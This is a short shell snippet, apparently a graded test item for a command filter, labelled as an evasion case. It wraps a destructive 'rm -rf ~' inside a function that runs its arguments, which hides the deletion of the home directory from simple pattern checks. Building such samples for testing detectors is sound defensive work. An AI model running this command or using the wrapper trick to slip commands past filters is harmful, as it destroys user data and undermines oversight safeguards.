# evasion: a function runs its arguments
# grade: hard; does: rm-rf
run() { "$@"; }
run rm -rf ~
